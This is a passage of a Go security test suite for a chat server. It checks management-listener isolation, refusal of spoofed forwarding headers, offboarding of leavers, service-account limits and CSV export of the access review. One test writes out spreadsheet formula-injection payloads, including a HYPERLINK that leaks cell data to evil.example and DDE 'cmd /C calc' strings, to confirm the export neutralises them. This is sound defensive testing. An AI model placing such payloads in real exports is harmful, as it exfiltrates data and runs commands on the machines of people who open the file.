			if op.Method == "GET" {
				ra, rb = e.head(t, path, tok), e.head(t, unknownTwin(path), tok)
				indistinguishable(t, "HEAD "+op.Path+" vs an unknown path", ra, rb)
			}
		}
		// Another method on the path: an unknown path's answer, or — where
		// user operations share the path — a 400 whose Allow lists only
		// those.
		for _, m := range []string{"OPTIONS", "PUT", "TRACE"} {
			ra := e.do(t, req{method: m, path: path, token: admin.Token()})
			rb := e.do(t, req{method: m, path: unknownTwin(path), token: admin.Token()})
			if ra.Status == 404 {
				indistinguishable(t, m+" "+op.Path+" vs an unknown path", ra, rb)
				continue
			}
			for _, allowed := range strings.Split(ra.Header.Get("Allow"), ", ") {
				if allowed != "" && !slices.Contains(userMethods[op.Path], allowed) {
					t.Errorf("%s %s: Allow %q names an operation of the management listener", m, op.Path, ra.Header.Get("Allow"))
				}
			}
			if ra.Status != 400 || len(userMethods[op.Path]) == 0 {
				t.Errorf("%s %s: %s", m, op.Path, ra)
			}
		}
		n++
	}
	if n < 20 {
		t.Fatalf("only %d administrative operations in the OpenAPI document", n)
	}
	var denied int
	for _, r := range e.mgmtAudit(t, aud) {
		if r.Action == "api.denied" && r.ActorID == admin.ID && r.Reason == "management plane" {
			denied++
		}
	}
	if denied < n {
		t.Errorf("%d of the system admin's %d attempts on the user listener audited", denied, n)
	}
}

func mgmtUserRoutesOnManagementListener(t *testing.T, e *env) {
	admin := e.admin(t)
	mgmt := e.srv.ManagementURL
	alice, bob := e.mgmtAccount(t, "alice"), e.mgmtAccount(t, "bob")
	conv, err := alice.CreateConversation(ctx(t), "direct", []string{bob.ID}, "")
	if err == nil {
		_, err = alice.Send(ctx(t), conv, "mg-1", "SECRET-OVER-THE-USER-LISTENER")
	}
	if err != nil {
		t.Fatal(err)
	}
	n := historyLen(t, e, bob, conv)
	sessions, err := alice.Sessions(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	_, ops := e.openAPI(t)
	ids := map[string]string{"id": conv}
	ops = append(ops, operation{Method: "POST", Path: "/api/v1/auth/login", Perm: "public", Body: "login"})
	count := 0
	for _, op := range ops {
		if !slices.Contains(userPerms, op.Perm) || op.Path == "/healthz" || op.Path == "/readyz" || op.Path == "/api/v1/openapi.json" {
			continue
		}
		path := fillPath(op.Path, ids)
		var body []byte
		switch {
		case op.Path == "/api/v1/auth/login":
			body = jsonBody(t, wire.LoginRequest{Username: alice.Username, Password: password})
		case strings.HasSuffix(op.Path, "/messages") && op.Method == "POST":
			body = []byte(`{"client_msg_id":"mg-2","body":"through the back door"}`)
		case op.Body != "":
			body = []byte(`{}`)
		}
		for _, tok := range []string{"", alice.Token(), admin.Token()} {
			ra := e.doAt(t, mgmt, req{method: op.Method, path: path, token: tok, body: body})
			rb := e.doAt(t, mgmt, req{method: op.Method, path: unknownTwin(path), token: tok, body: body})
			expect(t, ra, 404, "not_found")
			noSecrets(t, ra)
			indistinguishable(t, op.Method+" "+op.Path+" vs an unknown path", ra, rb)
		}
		count++
	}
	if count < 15 {
		t.Fatalf("only %d user operations in the OpenAPI document", count)
	}
	// The WebSocket is refused before any upgrade.
	h := http.Header{"Authorization": {"Bearer " + alice.Token()}}
	ws, resp, err := websocket.Dial(ctx(t), "wss://"+strings.TrimPrefix(mgmt, "https://")+"/api/v1/ws",
		&websocket.DialOptions{HTTPClient: e.http1, HTTPHeader: h})
	if err == nil {
		_ = ws.CloseNow()
		t.Fatal("WebSocket upgrade on the management listener")
	}
	if resp == nil || resp.StatusCode != 404 {
		t.Fatalf("WebSocket on the management listener: %v (%v)", err, resp)
	}
	if got := historyLen(t, e, bob, conv); got != n {
		t.Fatalf("history grew from %d to %d", n, got)
	}
	if after, err := alice.Sessions(ctx(t)); err != nil || len(after) != len(sessions) {
		t.Fatalf("sessions %d → %d (%v): a login went through", len(sessions), len(after), err)
	}
}

func mgmtForwardedFor(t *testing.T, e *env) {
	admin := e.admin(t)
	aud := e.mgmtAccount(t, "auditor", "auditor")
	if _, err := e.srv.ManagementClient(admin.Token(), nil).BuildInfo(ctx(t)); err != nil {
		t.Fatalf("from 127.0.0.1 (allowed): %v", err)
	}
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}, Timeout: 5 * time.Second}
	tr := &http.Transport{DialContext: dialer.DialContext, TLSClientConfig: e.tlsConfig(), ForceAttemptHTTP2: true}
	defer tr.CloseIdleConnections()
	attacker := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	for _, hdr := range []map[string]string{
		{"X-Forwarded-For": "127.0.0.1"},
		{"X-Forwarded-For": "127.0.0.2, 127.0.0.1"},
		{"X-Real-IP": "127.0.0.1"},
		{"Forwarded": "for=127.0.0.1"},
		{"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1", "Forwarded": "for=127.0.0.1;proto=https"},
	} {
		hr, err := http.NewRequestWithContext(ctx(t), "GET", e.srv.ManagementURL+"/api/v1/admin/buildinfo", nil)
		if err != nil {
			t.Fatal(err)
		}
		hr.Header.Set("Authorization", "Bearer "+admin.Token())
		for k, v := range hdr {
			hr.Header.Set(k, v)
		}
		resp, err := attacker.Do(hr)
		if err == nil {
			resp.Body.Close()
			t.Fatalf("%v from 127.0.0.2: answered %d", hdr, resp.StatusCode)
		}
	}
	// The refusal is on the record with the real peer, never the claimed one.
	deadline := time.Now().Add(10 * time.Second)
	for {
		var peer, claimed bool
		for _, r := range e.mgmtAudit(t, aud) {
			if r.Action == "api.denied" && r.Reason == "management plane: source address not allowed" {
				peer = peer || r.SourceIP == "127.0.0.2"
				claimed = claimed || r.SourceIP == "127.0.0.1"
			}
		}
		if claimed {
			t.Fatal("a refusal recorded with the claimed address")
		}
		if peer {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the refused peer was not audited")
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// ---- Z8, Z11: leavers, the access review, service accounts ---------------------------

// reviewCSV reads the access review as CSV, as the auditor, and returns
// its rows by user ID (and the header).
func (e *env) reviewCSV(t *testing.T) (header []string, byUser map[string][][]string, all [][]string) {
	t.Helper()
	raw, err := e.auditor(t).AccessReviewCSV(ctx(t))
	if err != nil {
		t.Fatalf("access review CSV: %v", err)
	}
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil || len(rows) < 2 || rows[0][0] != "user_id" {
		t.Fatalf("access review CSV: %d rows, %v", len(rows), err)
	}
	byUser = map[string][][]string{}
	for _, r := range rows[1:] {
		byUser[r[0]] = append(byUser[r[0]], r)
	}
	return rows[0], byUser, rows
}

func column(t *testing.T, header []string, name string) int {
	t.Helper()
	i := slices.Index(header, name)
	if i < 0 {
		t.Fatalf("no %s column in %v", name, header)
	}
	return i
}

// reviewEntry is a user's entry of the access review (JSON).
func (e *env) reviewEntry(t *testing.T, userID string) wire.AccessReviewUser {
	t.Helper()
	rep, err := e.auditor(t).AccessReview(ctx(t))
	if err != nil {
		t.Fatalf("access review: %v", err)
	}
	for _, u := range rep.Users {
		if u.UserID == userID {
			return u
		}
	}
	t.Fatalf("%s is not in the access review", userID)
	return wire.AccessReviewUser{}
}

func accessReviewCSVInjection(t *testing.T, e *env) {
	admin := e.admin(t)
	names := []string{
		`=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C notepad'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`=1+1`,
	}
	ids := map[string]string{}
	for _, name := range names {
		id, err := admin.CreateUser(ctx(t), wire.CreateUserRequest{Username: e.unique("csv"), DisplayName: name, Password: password})
		if err != nil {
			t.Fatalf("display name %q: %v", name, err)
		}
		ids[id] = name
	}
	mark := e.auditMark(t)
	header, byUser, all := e.reviewCSV(t)
	dn := column(t, header, "display_name")
	for id, name := range ids {
		rows := byUser[id]
		if len(rows) == 0 {
			t.Fatalf("%q has no row in the CSV", name)
		}
		for _, r := range rows {
			if r[dn] != "'"+name {
				t.Errorf("display name cell %q, want %q", r[dn], "'"+name)
			}
		}
		if got := e.reviewEntry(t, id).DisplayName; got != name {
			t.Errorf("JSON display name %q, want %q", got, name)
		}
	}
	for i, r := range all {
		for j, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts a formula: %q", i, header[j], cell)
			}
		}
	}
	e.expectAudit(t, mark, "the review read", by(e.auditor(t).ID, "access_review.read", "success"))
}

func accessReviewLeaverFlag(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	lv := e.holder(t, "leaver", eng, "department_admin", "")
	admin := e.admin(t)
	e.stepUp(t, admin)
	end := e.now().Add(10 * time.Minute)
	if _, err := admin.SetEndDate(ctx(t), lv.ID, &end); err != nil {
		t.Fatal(err)
	}
	if got := e.reviewEntry(t, lv.ID); slices.Contains(got.Flags, "leaver_with_access") {
		t.Fatalf("flagged before leaving: %+v", got)
	}
	e.advance(t, 11*time.Minute)
	// Refused at once, sweep or not (Z11).
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/me", token: lv.Token()}), 401, "unauthenticated")
	mark := e.auditMark(t)
	// parleyd sweeps hourly; the test runs the sweep itself.
	if err := e.srv.Node.Lifecycle.Sweep(ctx(t)); err != nil {
		t.Fatal(err)
	}
	e.expectAudit(t, mark, "the expiry", func(r wire.AuditRecord) bool {
		return r.Action == "user.expired" && r.Result == "success" && r.Target == lv.ID
	})
	got := e.reviewEntry(t, lv.ID)
	if got.Status != "disabled" || !slices.Contains(got.Flags, "leaver_with_access") {
		t.Fatalf("review entry of the leaver: %+v", got)
	}
	header, byUser, _ := e.reviewCSV(t)
	flags := column(t, header, "flags")
	var flagged bool
	for _, r := range byUser[lv.ID] {
		flagged = flagged || strings.Contains(r[flags], "leaver_with_access")
	}
	if !flagged {
		t.Fatalf("CSV rows of the leaver: %q", byUser[lv.ID])
	}
}

func offboardedLeaver(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	bob := e.user(t, "bob")
	lv := e.holder(t, "leaverb", eng, "department_admin", "")
	conv, err := lv.CreateConversation(ctx(t), "direct", []string{bob.ID}, "")
	if err == nil {
		_, err = lv.Send(ctx(t), conv, "last-1", "my last words")
	}
	if err != nil {
		t.Fatal(err)
	}
	ws, old := e.mustWS(t, lv.Token()), lv.Token()
	admin := e.admin(t)
	e.stepUp(t, admin)
	mark := e.auditMark(t)
	res, err := admin.Offboard(ctx(t), lv.ID, wire.OffboardRequest{Reason: "left the company"})
	if err != nil {
		t.Fatal(err)
	}
	endedAtOnce(t, e, "offboarding", ws, old)
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/supervision", token: old}), 401, "unauthenticated")
	if res.Status != "disabled" || !slices.ContainsFunc(res.RolesRevoked, func(r string) bool { return strings.HasPrefix(r, "department_admin") }) {
		t.Fatalf("offboard answer: %+v", res)
	}
	// The password now gets a wrong password's answer.
	other := e.fresh(t, "wrongpw")
	gone := e.loginRaw(t, lv.Username, password, nil)
	wrong := e.loginRaw(t, other.Username, "Wrong-Password-123!", nil)
	expect(t, gone, 401, "unauthenticated")
	sameAnswer(t, "the leaver's login vs a wrong password", gone, wrong)
	if got := e.grantLabels(t, lv.ID); len(got) > 1 || (len(got) == 1 && got[0] != "user") {
		t.Fatalf("grants after offboarding: %v", got)
	}
	entry := e.reviewEntry(t, lv.ID)
	if entry.Status != "disabled" || slices.Contains(entry.Flags, "leaver_with_access") {
		t.Fatalf("review entry: %+v", entry)
	}
	msgs, err := bob.History(ctx(t), conv, 0, 10)
	if err != nil || len(msgs) != 1 || msgs[0].Body != "my last words" {
		t.Fatalf("bob's history: %+v, %v", msgs, err)
	}
	e.expectAudit(t, mark, "the offboarding", func(r wire.AuditRecord) bool {
		return by(admin.ID, "user.offboard", "success")(r) && r.Target == lv.ID
	})
}

func serviceAccountAbuse(t *testing.T, e *env) {
	admin := e.admin(t)
	name := e.unique("bot")
	botID, err := admin.CreateUser(ctx(t), wire.CreateUserRequest{Username: name, DisplayName: "Build bot", Password: password, Kind: wire.KindService})
	if err != nil {
		t.Fatal(err)
	}
	desk := e.customRole(t, "Bot unlock", "users.unlock")
	sec := e.security(t)
	mark := e.auditMark(t)
	for _, role := range []string{"department_admin", "auditor", desk.RoleID} {
		_, err := sec.GrantRole(ctx(t), botID, wire.GrantRoleRequest{Role: role, Reason: "automation"})
		wantCode(t, "grant "+role+" to a service account", err, 403, "forbidden")
	}
	if got := e.grantLabels(t, botID); !slices.Equal(got, []string{"user"}) {
		t.Fatalf("the bot's grants: %v", got)
	}
	e.expectAudit(t, mark, "a refused grant", func(r wire.AuditRecord) bool {
		return by(sec.ID, "role.grant", "denied")(r) && strings.HasPrefix(r.Target, botID+" ")
	})
	// No interactive login, whatever the password.
	other := e.fresh(t, "wrongpw")
	bot := e.loginRaw(t, name, password, nil)
	wrong := e.loginRaw(t, other.Username, "Wrong-Password-123!", nil)
	expect(t, bot, 401, "unauthenticated")
	sameAnswer(t, "the service account's login vs a wrong password", bot, wrong)
	// Its API token is for chat, not for its own account or credentials.
	e.stepUp(t, admin)
	tok, err := admin.CreateServiceToken(ctx(t), botID, wire.CreateServiceTokenRequest{Name: "ci"})
	if err != nil {
		t.Fatal(err)
	}
	for _, rq := range []req{
		{method: "GET", path: "/api/v1/me"},
		{method: "GET", path: "/api/v1/sessions"},
		{method: "POST", path: "/api/v1/auth/totp/enroll", body: []byte(`{}`)},
		{method: "POST", path: "/api/v1/auth/step-up", body: jsonBody(t, wire.StepUpRequest{Method: "password", Password: password})},
		{method: "POST", path: "/api/v1/auth/password", body: jsonBody(t, wire.ChangePasswordRequest{CurrentPassword: password, NewPassword: "Another-Pass-42!x"})},
		{method: "POST", path: "/api/v1/users/" + botID + "/roles", body: []byte(`{"role":"department_admin"}`)},
	} {
		rq.token = tok.Token
		expect(t, e.do(t, rq), 403, "forbidden")
	}
	if r := e.do(t, req{method: "GET", path: "/api/v1/conversations", token: tok.Token}); r.Status != 200 {
		t.Fatalf("the token for chat: %s", r)
	}
	// The password is still the one it had: the change above went nowhere.
	if r := e.loginRaw(t, name, "Another-Pass-42!x", nil); r.Status != 401 {
		t.Fatalf("login with the attempted new password: %s", r)
	}
}
